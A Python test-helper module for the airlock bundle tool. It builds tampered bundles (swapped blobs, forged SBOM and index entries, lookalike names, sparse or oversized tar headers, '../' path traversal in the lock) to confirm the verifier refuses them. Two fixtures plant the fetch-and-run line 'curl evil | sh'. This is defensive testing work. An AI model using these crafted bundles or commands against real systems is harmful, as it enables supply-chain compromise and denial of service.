"""Rewrite a real bundle the way an attacker would: consistently.

:class:`Tampered` loads a bundle made by ``airlock fetch``, lets an attack change members, names,
bundle.json entries or the lock, and writes it back with every digest an attacker can recompute made
to agree again (bundle.json sizes and digests of whatever bytes sit at each path, the airlock.lock
entry and ``lock_sha256``). A rewritten bundle therefore passes every check that only compares the
bundle with itself; only checks of names, kinds, the lock and the tar format can stop it.

``ATTACKS`` maps a name to (rewrite, a regex the refusal must match); ``LOCK_TRAVERSALS`` are lock
rewrites whose paths leave DIR; ``split_*`` helpers attack split bundles.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from airlock.bundle.tarstream import SplitWriter, TarWriter

BLOCK = 512


@dataclass
class Item:
    name: str
    data: bytes | None  # None: a directory
    raw: bytes | None = None  # verbatim header block(s) and data, written instead of the normal encoding


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def header(name: str, size: int, type_: bytes = b"0", magic: bytes = b"ustar\x0000",
           extra: dict[int, bytes] | None = None) -> bytes:
    """One tar header block with any field an attacker likes (checksum made right)."""
    b = bytearray(BLOCK)
    raw_name = name.encode()
    b[0:len(raw_name[:100])] = raw_name[:100]
    b[100:108] = b"0000644\0"
    b[108:116] = b[116:124] = b"0000000\0"
    b[124:136] = (b"%011o" % size + b"\0") if size < 8 ** 11 else b"\x80" + size.to_bytes(11, "big")
    b[136:148] = b"00000000000\0"
    b[156:157] = type_
    b[257:265] = magic
    for offset, value in (extra or {}).items():
        b[offset:offset + len(value)] = value
    b[148:156] = b" " * 8
    b[148:156] = b"%06o\0 " % sum(b)
    return bytes(b)


def pad(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % BLOCK)


class Tampered:
    def __init__(self, items: list[Item]):
        self.items = items
        self.frozen: set[str] = set()  # bundle.json entries whose digest/size an attack set on purpose

    @classmethod
    def load(cls, path: Path) -> Tampered:
        items = []
        with tarfile.open(path) as tar:
            for m in tar.getmembers():
                f = tar.extractfile(m) if m.isreg() else None
                items.append(Item(m.name, f.read() if f else None))
        return cls(items)

    # -- access -----------------------------------------------------------------------------

    def item(self, name: str) -> Item:
        return next(i for i in self.items if i.name == name)

    @property
    def index(self) -> dict[str, Any]:
        return json.loads(self.item("bundle.json").data or b"")

    def save_index(self, doc: dict[str, Any]) -> None:
        self.item("bundle.json").data = (json.dumps(doc, indent=1, sort_keys=True) + "\n").encode()

    def edit_index(self, fn: Callable[[dict[str, Any]], None]) -> None:
        doc = self.index
        fn(doc)
        self.save_index(doc)

    def entries(self, kind: str | None = None) -> list[dict[str, Any]]:
        return [e for e in self.index["entries"] if kind is None or e["kind"] == kind]

    def entry_of(self, serves: str) -> dict[str, Any]:
        return next(e for e in self.index["entries"] if serves in e["serves"])

    @property
    def lock_text(self) -> str:
        return (self.item("airlock.lock").data or b"").decode()

    def replace_in_lock(self, old: str, new: str, count: int = 1) -> None:
        text = self.lock_text
        assert old in text, f"{old!r} is not in the lock"
        self.item("airlock.lock").data = text.replace(old, new, count).encode()

    def rename(self, old: str, new: str) -> None:
        """Move a member to a new name, and its bundle.json entry with it."""
        self.item(old).name = new
        self.edit_index(lambda doc: [e.update(path=new) for e in doc["entries"] if e["path"] == old])

    # -- writing ----------------------------------------------------------------------------

    def sync(self) -> None:
        """What an attacker recomputes: each entry's digest and size from the bytes at its path, lock_sha256."""
        doc = self.index
        data = {i.name: i.data for i in self.items if i.data is not None and i.raw is None}
        for e in doc["entries"]:
            if e["path"] in data and e["path"] not in self.frozen:
                e["digest"], e["size"] = sha(data[e["path"]]), len(data[e["path"]])
        if "airlock.lock" in data and "airlock.lock" not in self.frozen:
            doc["lock_sha256"] = sha(data["airlock.lock"]).split(":", 1)[1]
        self.save_index(doc)

    def tar_bytes(self) -> bytes:
        self.sync()
        out = io.BytesIO()
        w = TarWriter(out)
        for i in self.items:
            if i.raw is not None:
                w._write(i.raw)
            elif i.data is None:
                w.add_dir(i.name)
            else:
                w.add_bytes(i.name, i.data)
        w.close()
        return out.getvalue()

    def write(self, path: Path) -> Path:
        path.write_bytes(self.tar_bytes())
        return path


# -- attacks on one bundle ----------------------------------------------------------------------

def _two_files(t: Tampered) -> tuple[dict[str, Any], dict[str, Any]]:
    a = t.entry_of(next(s for e in t.entries("file") for s in e["serves"] if s.startswith("file:kubelet:")))
    b = next(e for e in t.entries("file") if e["digest"] != a["digest"] and e["size"] != a["size"])
    return a, b


def swap_blob_bytes(t: Tampered) -> None:
    """kubelet's blob path holds another file's bytes and vice versa (bundle.json digests follow the bytes)."""
    a, b = _two_files(t)
    ia, ib = t.item(a["path"]), t.item(b["path"])
    ia.data, ib.data = ib.data, ia.data


def swap_blob_names(t: Tampered) -> None:
    """Two blobs trade tar names and bundle.json paths: each digest now sits under the other's name."""
    a, b = _two_files(t)
    ia, ib = t.item(a["path"]), t.item(b["path"])
    ia.name, ib.name = ib.name, ia.name
    pa, pb = a["path"], b["path"]
    t.edit_index(lambda doc: [e.update(path=pb if e["path"] == pa else pa) for e in doc["entries"]
                              if e["path"] in (pa, pb)])


def swap_serves(t: Tampered) -> None:
    """kubelet's lock entry is claimed by another file's blob and vice versa."""
    a, b = _two_files(t)

    def edit(doc: dict[str, Any]) -> None:
        ea = next(e for e in doc["entries"] if e["path"] == a["path"])
        eb = next(e for e in doc["entries"] if e["path"] == b["path"])
        ea["serves"], eb["serves"] = eb["serves"], ea["serves"]
    t.edit_index(edit)


def swap_image_tags(t: Tampered) -> None:
    """index.json points one image's tag at another image's manifest."""
    doc = json.loads(t.item("index.json").data or b"")
    m = doc["manifests"]
    m[0]["digest"], m[1]["digest"] = m[1]["digest"], m[0]["digest"]
    t.item("index.json").data = json.dumps(doc, indent=1, sort_keys=True).encode() + b"\n"


def index_annotations_list(t: Tampered) -> None:
    """index.json's annotations become a list (a reader expecting a mapping would crash)."""
    doc = json.loads(t.item("index.json").data or b"")
    doc["manifests"][0]["annotations"] = ["org.opencontainers.image.ref.name"]
    t.item("index.json").data = json.dumps(doc, indent=1, sort_keys=True).encode() + b"\n"


def _set_kind(kind_from: str, kind_to: str) -> Callable[[Tampered], None]:
    def attack(t: Tampered) -> None:
        def edit(doc: dict[str, Any]) -> None:
            next(e for e in doc["entries"] if e["kind"] == kind_from)["kind"] = kind_to
        t.edit_index(edit)
    attack.__doc__ = f"a {kind_from} entry is listed as {kind_to}"
    return attack


def yaml_as_file(t: Tampered) -> None:
    """airlock.yaml is listed as a file serving kubelet."""
    kubelet = next(s for e in t.entries("file") for s in e["serves"] if s.startswith("file:kubelet:"))
    t.edit_index(lambda doc: [e.update(kind="file", serves=[kubelet]) for e in doc["entries"]
                              if e["path"] == "airlock.yaml"])


def extra_serves(t: Tampered) -> None:
    """A layer also claims to serve kubelet."""
    kubelet = next(s for e in t.entries("file") for s in e["serves"] if s.startswith("file:kubelet:"))
    t.edit_index(lambda doc: next(e for e in doc["entries"] if e["kind"] == "image-layer")["serves"].append(kubelet))


def kubespray_extra_file(t: Tampered) -> None:
    """The Kubespray source tar gains a playbook (re-hashed, renamed, listed): not the tree the lock pins."""
    entry = t.entries("kubespray")[0]
    old = t.item(entry["path"])
    with tarfile.open(fileobj=io.BytesIO(old.data or b"")) as tar:
        root = tar.getmembers()[0].name.split("/", 1)[0]
        members = [(m.name, tar.extractfile(m).read() if m.isreg() else None) for m in tar.getmembers()]  # type: ignore[union-attr]  # a regular member: extractfile gives a file
    out = io.BytesIO()
    w = TarWriter(out)
    for name, data in [*members, (f"{root}/roles/evil/tasks/main.yml", b"- command: curl evil | sh\n")]:
        if data is None:
            w.add_dir(name)
        else:
            w.add_bytes(name, data)
    w.close()
    old.data = out.getvalue()
    t.rename(entry["path"], "blobs/sha256/" + sha(old.data).split(":", 1)[1])


def kubespray_damaged(t: Tampered) -> None:
    """A bit of the Kubespray source flips in transit (bundle.json untouched): damage, not a forged tree."""
    entry = t.entries("kubespray")[0]
    it = t.item(entry["path"])
    data = bytearray(it.data or b"")
    data[512 * 3 + 1] ^= 0x20  # inside the first file's bytes (or a header: damage either way)
    it.data = bytes(data)
    t.frozen.add(entry["path"])


def _rename_blob(fn: Callable[[str], str], doc_: str) -> Callable[[Tampered], None]:
    def attack(t: Tampered) -> None:
        path = t.entries("image-layer")[0]["path"]
        t.rename(path, fn(path))
    attack.__doc__ = doc_
    return attack


def gnu_longname(t: Tampered) -> None:
    """A layer's real name hides in a GNU long-name record; the ustar name field says something else."""
    path = t.entries("image-layer")[0]["path"]
    it = t.item(path)
    name = path.encode() + b"\0"
    it.raw = (header("././@LongLink", len(name), b"L", b"ustar  \0") + pad(name)
              + header("x", len(it.data or b"")) + pad(it.data or b""))


def pax_path(t: Tampered) -> None:
    """A pax header renames a layer member to its listed name."""
    path = t.entries("image-layer")[0]["path"]
    it = t.item(path)
    record = f"path={path}\n"
    record = f"{len(record) + 4} {record}".encode()
    it.raw = (header("PaxHeaders/x", len(record), b"x") + pad(record)
              + header("blobs/sha256/x", len(it.data or b"")) + pad(it.data or b""))


def unlisted_name(t: Tampered) -> None:
    """A file that is no bundle file name, listed in bundle.json like a blob."""
    t.items.insert(5, Item("install.sh", b"curl evil | sh\n"))
    t.edit_index(lambda doc: doc["entries"].append({"path": "install.sh", "digest": "", "size": 0, "kind": "file",
                                                    "serves": []}))


def listed_twice(t: Tampered) -> None:
    """bundle.json lists a layer twice."""
    t.edit_index(lambda doc: doc["entries"].append(dict(next(e for e in doc["entries"] if e["kind"] == "image-layer"))))


def member_twice(t: Tampered) -> None:
    """The tar holds a layer twice (the second with other bytes)."""
    path = t.entries("image-layer")[0]["path"]
    t.items.append(Item(path, b"other bytes\n"))
    t.frozen.add(path)


def sparse_lock(t: Tampered) -> None:
    """airlock.lock as a GNU sparse member whose real size is 4 GiB (the bytes stored are tiny)."""
    it = t.item("airlock.lock")
    data = it.data or b""
    sparse_map = b"%011o\0" % 0 + b"%011o\0" % len(data)
    it.raw = header("airlock.lock", len(data), b"S", b"ustar  \0",
                    {386: sparse_map, 483: b"%011o\0" % (4 << 30)}) + pad(data)


def sparse_lock_listed(t: Tampered) -> None:
    """As sparse_lock, with bundle.json listing the 4 GiB the sparse member expands to."""
    sparse_lock(t)
    t.frozen.add("airlock.lock")
    t.edit_index(lambda doc: [e.update(size=4 << 30) for e in doc["entries"] if e["path"] == "airlock.lock"])


def pax_sparse_lock(t: Tampered) -> None:
    """airlock.lock as a pax (GNU sparse 1.0) member whose real size is 4 GiB."""
    it = t.item("airlock.lock")
    data = it.data or b""
    records = b""
    for key, value in (("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0"), ("GNU.sparse.name", "airlock.lock"),
                       ("GNU.sparse.realsize", str(4 << 30))):
        body = f" {key}={value}\n"
        n = len(body) + 1
        while n != len(str(n)) + len(body):  # a record's length counts its own digits
            n = len(str(n)) + len(body)
        records += f"{n}{body}".encode()
    stored = b"1\n0\n" + str(len(data)).encode() + b"\n"
    stored = pad(stored) + data
    it.raw = (header("PaxHeaders/airlock.lock", len(records), b"x") + pad(records)
              + header("GNUSparseFile.0/airlock.lock", len(stored)) + pad(stored))


def huge_lock_listed(t: Tampered) -> None:
    """airlock.lock claims 4 GiB in its tar header and in bundle.json (the bundle stays 2 MB)."""
    it = t.item("airlock.lock")
    it.raw = header("airlock.lock", 4 << 30) + pad(it.data or b"")
    t.frozen.add("airlock.lock")
    t.edit_index(lambda doc: [e.update(size=4 << 30) for e in doc["entries"] if e["path"] == "airlock.lock"])


def huge_lock_header(t: Tampered) -> None:
    """airlock.lock's tar header claims 4 GiB; bundle.json keeps the true size."""
    it = t.item("airlock.lock")
    it.raw = header("airlock.lock", 4 << 30) + pad(it.data or b"")


def huge_index(t: Tampered) -> None:
    """bundle.json's tar header claims 4 GiB."""
    t.sync()
    it = t.item("bundle.json")
    it.raw = header("bundle.json", 4 << 30) + pad(it.data or b"")


def huge_manifest_listed(t: Tampered) -> None:
    """index.json listed (and headed) as 1 GiB: above the cap for anything read into memory."""
    it = t.item("index.json")
    it.raw = header("index.json", 1 << 30) + pad(it.data or b"")
    t.frozen.add("index.json")
    t.edit_index(lambda doc: [e.update(size=1 << 30) for e in doc["entries"] if e["path"] == "index.json"])


def add_sbom(t: Tampered, forge: bool = False) -> None:
    """Put the lock's SBOM into the bundle as `fetch --sbom` would (``forge``: with kubelet's hash changed)."""
    from airlock.lockfile import parse_lock
    from airlock.review.sbom import build_sbom

    body = build_sbom(parse_lock(t.lock_text)).encode()
    if forge:
        kubelet = t.entry_of(next(s for e in t.entries("file") for s in e["serves"] if s.startswith("file:kubelet:")))
        hexd = kubelet["digest"].split(":", 1)[1]
        assert hexd.encode() in body
        body = body.replace(hexd.encode(), b"0" * 64)
    at = next(n for n, i in enumerate(t.items) if i.name == "oci-layout")
    t.items.insert(at, Item("sbom.cdx.json", body))
    t.edit_index(lambda doc: doc["entries"].append({"path": "sbom.cdx.json", "digest": "", "size": 0,
                                                    "kind": "sbom", "serves": []}))
    t.edit_index(lambda doc: doc["entries"].sort(key=lambda e: e["path"]))


def forged_oci_layout(t: Tampered) -> None:
    """oci-layout claims another layout version."""
    t.item("oci-layout").data = b'{"imageLayoutVersion":"9.9.9"}'


def swap_lock_files(t: Tampered) -> None:
    """A consistent but different bundle: the lock itself says kubelet is another file's bytes (and back)."""
    import tomllib

    from airlock.lockfile import Lock, dumps

    a, b = _two_files(t)
    doc = tomllib.loads(t.lock_text)
    pins = {f["sha256"]: f for f in doc["file"]}
    fa, fb = pins[a["digest"].split(":", 1)[1]], pins[b["digest"].split(":", 1)[1]]
    for key in ("sha256", "size"):
        fa[key], fb[key] = fb[key], fa[key]
    fa.pop("sha512", None)
    fb.pop("sha512", None)
    t.item("airlock.lock").data = dumps(Lock.model_validate(doc)).encode()
    swap_serves(t)


ATTACKS: dict[str, tuple[Callable[[Tampered], None], str]] = {
    "swap-blob-bytes": (swap_blob_bytes, "a blob's name must be its own sha256"),
    "swap-blob-names": (swap_blob_names, "a blob's name must be its own sha256"),
    "swap-serves": (swap_serves, "the lock has this digest serving"),
    "swap-image-tags": (swap_image_tags, "index.json does not map"),
    "index-annotations-list": (index_annotations_list, "index.json does not map"),
    "manifest-as-layer": (_set_kind("image-manifest", "image-layer"), "not image-layer"),
    "config-as-layer": (_set_kind("image-config", "image-layer"), "not image-layer"),
    "index-as-manifest": (_set_kind("image-index", "image-manifest"), "not image-manifest"),
    "file-as-rpm": (_set_kind("file", "rpm"), "not rpm"),
    "yaml-as-file": (yaml_as_file, "can only be the 'manifest' file"),
    "extra-serves": (extra_serves, "the lock has this digest serving"),
    "sbom-forged": (lambda t: add_sbom(t, forge=True), "sbom.cdx.json does not describe the lock"),
    "oci-layout-forged": (forged_oci_layout, "oci-layout is not the OCI layout marker"),
    "kubespray-extra-file": (kubespray_extra_file, "Kubespray tree digest"),
    "kubespray-damaged": (kubespray_damaged, r"\(kubespray\) is damaged"),
    "name-unicode-lookalike": (_rename_blob(lambda p: p[:-1] + "\u0430", "a Cyrillic a ends a layer's name"),
                               "not a bundle file name"),
    "name-fullwidth-digit": (_rename_blob(lambda p: p[:13] + "\uff10" + p[14:], "a fullwidth zero in a name"),
                             "not a bundle file name"),
    "name-uppercase-hex": (_rename_blob(lambda p: p[:13] + p[13:].upper(), "upper-case hex"),
                           "not a bundle file name"),
    "name-extra-dir": (_rename_blob(lambda p: p.replace("sha256/", "sha256/sha256/"), "one directory deeper"),
                       "not a bundle file name"),
    "name-dot-dir": (_rename_blob(lambda p: p.replace("sha256/", "sha256/./"), "a ./ inside the name"),
                     "unsafe path|not a bundle file name"),
    "name-gnu-longname": (gnu_longname, "GNU long name"),
    "name-pax-path": (pax_path, "pax header"),
    "name-unlisted-file": (unlisted_name, "not a bundle file name"),
    "dup-listed-twice": (listed_twice, "listed twice"),
    "dup-member-twice": (member_twice, "appears twice"),
    "size-sparse-lock": (sparse_lock, "sparse|not a POSIX ustar"),
    "size-sparse-lock-listed": (sparse_lock_listed, "more than the 16 MiB"),
    "size-pax-sparse-lock": (pax_sparse_lock, "pax header"),
    "size-huge-lock-listed": (huge_lock_listed, "more than the 16 MiB"),
    "size-huge-lock-header": (huge_lock_header, "bytes in the tar, but bundle.json says"),
    "size-huge-bundle-json": (huge_index, "bundle.json is .* bytes, more than"),
    "size-huge-index-json": (huge_manifest_listed, "more than the 16 MiB"),
}


# -- lock rewrites whose paths leave DIR --------------------------------------------------------

def file_path_traversal(t: Tampered) -> None:
    """[[file]] path = "../../../X" (kubelet is then written three levels above DIR/files)."""
    m = re.search(r'\npath = "([^"]*/kubelet)"\n', t.lock_text)
    assert m
    t.replace_in_lock(f'path = "{m.group(1)}"', 'path = "../../../X"')


def wheel_filename_traversal(t: Tampered) -> None:
    """A wheel's filename = "../../../X" (bundle.json's serves follows, as fetch would write it)."""
    entry = t.entries("wheel")[0]
    name = entry["serves"][0].split(":", 1)[1]
    t.replace_in_lock(f'filename = "{name}"', 'filename = "../../../X"')
    t.edit_index(lambda doc: [e.update(serves=["wheel:../../../X"]) for e in doc["entries"]
                              if e["path"] == entry["path"]])


def rpm_os_traversal(t: Tampered) -> None:
    """Every rpm's os = "../../../../X" (and the serves of their blobs)."""
    os_name = re.search(r'\[\[rpm\]\]\nos = "([^"]+)"', t.lock_text)
    assert os_name
    t.replace_in_lock(f'[[rpm]]\nos = "{os_name.group(1)}"', '[[rpm]]\nos = "../../../../X"', count=-1)
    t.edit_index(lambda doc: [e.update(serves=[s.replace(f"rpm:{os_name.group(1)}:", "rpm:../../../../X:")
                                               for s in e["serves"]]) for e in doc["entries"]])


LOCK_TRAVERSALS: dict[str, Callable[[Tampered], None]] = {
    "lock-file-path": file_path_traversal,
    "lock-wheel-filename": wheel_filename_traversal,
    "lock-rpm-os": rpm_os_traversal,
}


# -- split bundles ------------------------------------------------------------------------------

def split(data: bytes, out: Path, part_size: int) -> list[Path]:
    """Write ``data`` as airlock's split parts of ``out`` (NAME.000... and NAME.sha256sums)."""
    w = SplitWriter(out, part_size)
    w.write(data)
    return w.commit(hashlib.sha256(data).hexdigest())


def sums_lines(out: Path) -> list[str]:
    return out.with_name(out.name + ".sha256sums").read_text().splitlines()


def write_sums(out: Path, lines: list[str]) -> None:
    out.with_name(out.name + ".sha256sums").write_text("".join(line + "\n" for line in lines))


def rehash_part(out: Path, index: int) -> None:
    """Make the checksum list agree with part ``index`` as it is now (the whole digest is left alone)."""
    lines = sums_lines(out)
    name = lines[index].split("  ", 1)[1]
    lines[index] = f"{hashlib.sha256((out.parent / name).read_bytes()).hexdigest()}  {name}"
    write_sums(out, lines)


def zero_padding_offset(data: bytes, start: int, end: int) -> int:
    """The offset of a padding byte (a zero between a member's data and its next header) in [start, end)."""
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        for m in tar.getmembers():
            if m.isreg() and m.size % BLOCK:
                at = m.offset_data + m.size
                if start <= at < end:
                    assert data[at] == 0
                    return at
    raise AssertionError("no padding in that range")
